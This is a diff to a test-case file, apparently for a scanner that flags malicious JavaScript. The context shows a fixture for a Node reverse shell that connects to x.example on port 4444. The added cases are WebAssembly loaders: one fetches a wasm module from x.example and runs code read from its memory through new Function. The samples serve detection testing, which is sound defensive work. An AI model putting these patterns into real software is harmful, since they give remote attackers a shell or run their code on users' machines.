@@ -337,6 +337,17 @@ export default defineCases({
       name: 'a console for somebody elsewhere',
       code: "const net = require('net'), repl = require('repl');\nconst socket = net.connect(4444, 'x.example');\nrepl.start({ input: socket, output: socket })",
     },
+    {
+      name: 'what a program of WebAssembly asks for, when it is called',
+      alone: 'pass',
+      manifest: { type: 'module' },
+      code: 'let wasm, cached = null; const decoder = new TextDecoder();\nfunction memory() { if (cached === null) cached = new Uint8Array(wasm.memory.buffer); return cached }\nconst text = (at, size) => decoder.decode(memory().subarray(at, at + size));\nasync function made(module, imports) { return { instance: await WebAssembly.instantiate(module, imports), module } }\nexport async function load(url, imports) { const { instance, module } = await made(await fetch(url), imports); wasm = instance.exports; load.module = module; return wasm }\nexport const imports = { make: (at, size) => new Function(text(at, size)) };',
+    },
+    {
+      name: 'what a program of WebAssembly holds, at once',
+      manifest: { type: 'module' },
+      code: "let wasm, cached = null; const decoder = new TextDecoder();\nfunction memory() { if (cached === null) cached = new Uint8Array(wasm.memory.buffer); return cached }\nconst text = (at, size) => decoder.decode(memory().subarray(at, at + size));\nasync function made(module, imports) { return { instance: await WebAssembly.instantiate(module, imports), module } }\nexport async function load(url, imports) { const { instance, module } = await made(await fetch(url), imports); wasm = instance.exports; load.module = module; return wasm }\nawait load('https://x.example/x.wasm', {});\nnew Function(text(0, 80))();",
+    },
   ],
   ok: [
     {
